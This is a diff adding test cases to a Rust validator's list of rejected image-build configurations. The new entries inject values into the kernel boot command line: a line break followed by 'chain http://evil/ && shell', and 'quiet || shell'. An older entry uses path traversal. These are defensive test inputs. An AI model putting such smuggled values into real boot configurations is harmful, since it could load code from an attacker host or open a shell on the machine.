@@ -119,6 +119,8 @@ const BAD: &[(&str, usize, usize, &str)] = &[
     ("stages:\n  - debootstrap: { suite: bookworm }\noutputs:\n  initramfs: { modules: [virtio_net, \"../evil\"] }\n", 7, 38, "`../evil` is not a module name"),
     ("stages:\n  - debootstrap: { suite: bookworm }\nboot:\n  cmdline: \"console=ttyS0 rootsmith.rootfs_url=http://x/\"\n", 7, 12, "sets rootsmith.rootfs_url"),
     ("stages:\n  - debootstrap: { suite: bookworm }\nboot: { marker: \"\" }\n", 6, 17, "boot.marker is empty"),
+    ("stages:\n  - debootstrap: { suite: bookworm }\nboot:\n  cmdline: \"console=ttyS0\\nchain http://evil/ && shell\"\n", 7, 12, "line break"),
+    ("stages:\n  - debootstrap: { suite: bookworm }\nboot:\n  cmdline: \"quiet || shell\"\n", 7, 12, "boot scripts give a meaning"),
     ("stages:\n  - debootstrap: { suite: bookworm }\nboot: { cmdline: x, kernel: y }\n", 6, 21, "unknown field `kernel`"),
 ];
 
